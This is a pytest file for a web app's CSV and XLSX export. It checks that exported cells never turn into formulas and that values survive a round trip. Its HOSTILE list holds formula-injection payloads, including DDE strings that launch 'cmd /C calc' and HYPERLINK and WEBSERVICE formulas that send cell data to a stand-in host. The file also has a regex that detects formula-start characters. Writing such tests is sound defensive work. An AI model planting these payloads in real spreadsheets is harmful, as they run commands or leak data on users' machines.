"""What is taken away: no spreadsheet calculates any of it, no number is changed, and the same table is the same bytes."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from web.views.sheets import Sheet, as_csv, as_xlsx, harmless, meant

MADE = datetime(2026, 12, 1, tzinfo=UTC).replace(tzinfo=None)
SHEETML = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u3000=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "'",
    "'=",
]
HOSTILE = [
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    *(f'{start}HYPERLINK("http://e.example/?"&A1,"x")' for start in STARTS),
    *(f"{start}1+1" for start in STARTS),
    *(f'{start}WEBSERVICE("http://e.example/")' for start in STARTS),
    *(f"{start}DDE(\"cmd\";\"/C calc\";\"x\")" for start in STARTS),
    "a,=1+1", 'a","=1+1', "a\r\n=1+1", "a\n=1+1", '"', '""', ",", ";=1+1", "a;=1+1", "-", "=", "'", "''", "\ufeff=1+1",
    "김철수", "=김철수", "\u202e=1+1", "x" * 500, "\U0001f600", "_x003D_1", "한글\u0000", "{=1+1}",
    "http://e.example/", "0101234", "1e5",
]  # fmt: skip
DANGER = re.compile("^[ \u00a0\u3000]*[=+\\-@\t\r\n|%＝＋－＠]")


def sheet(*rows: tuple[str | int | datetime | None, ...]) -> Sheet:
    heads = (("a", "text"), ("b", "number"), ("c", "text"))
    return Sheet("한 장", (("누구", "=1+1"),), heads, rows, (None, 7, None))  # type: ignore[arg-type]


def cells(raw: bytes) -> list[list[str]]:
    """What a reader of CSV finds."""
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula_and_it_is_read_back_as_it_was(text: str) -> None:
    """Seen failing with the first character looked at without the blanks before it, and with `'` left as it is."""
    _who, _empty, _heads, row, foot = cells(as_csv(sheet((text, -5, text))))
    assert len(row) == 3
    assert not any(DANGER.match(cell) for cell in (row[0], row[2]))
    assert [meant(row[0]), row[1], meant(row[2])] == [text, "-5", text]
    assert foot == ["", "7", ""]
    assert cells(as_csv(sheet((text, -5, text))))[0] == ["누구", "'=1+1"]


@given(st.text(max_size=40))
@settings(max_examples=300)
def test_any_text_comes_back(text: str) -> None:
    assert meant(harmless(text)) == text
    assert not DANGER.match(harmless(text)) or not text.strip(" ")


@given(st.lists(st.integers(-(2**53), 2**53), min_size=1, max_size=5))
@settings(max_examples=100)
def test_numbers_are_numbers(numbers: list[int]) -> None:
    rows = cells(as_csv(sheet(*((None, number, None) for number in numbers))))[3:-1]
    assert [row[1] for row in rows] == [str(number) for number in numbers]


def _cells(raw: bytes) -> list[ET.Element]:
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        page = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    return list(page.iter(f"{SHEETML}c"))


def test_a_workbook_holds_texts_and_numbers_and_nothing_that_acts() -> None:
    """Seen failing with `write` in place of `write_string`: it makes formulas and links of such texts."""
    raw = as_xlsx([sheet(*((text, -5, text) for text in HOSTILE))], MADE)
    found = _cells(raw)
    assert {cell.get("t") for cell in found} == {"s", None}
    assert not [cell for cell in found if cell.find(f"{SHEETML}f") is not None]
    assert [cell.find(f"{SHEETML}v").text for cell in found if cell.get("t") is None] == ["-5"] * len(HOSTILE) + ["7"]  # type: ignore[union-attr]
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        assert not [name for name in book.namelist() if "rels" in name and "sheet" in name]
        assert book.testzip() is None


def test_the_same_table_is_the_same_bytes() -> None:
    """Seen failing without the fixed moment in the workbook's properties."""
    one = sheet(("김철수", 1, "x"), (None, -2, "=y"))
    assert as_csv(one) == as_csv(one)
    two = replace(one, name="둘째 장: [a/b]")
    first = as_xlsx([one, two], MADE)
    until = datetime.now(UTC) + timedelta(seconds=1.1)  # a workbook's properties tell seconds
    while datetime.now(UTC) < until:
        assert as_xlsx([one, two], MADE) == first
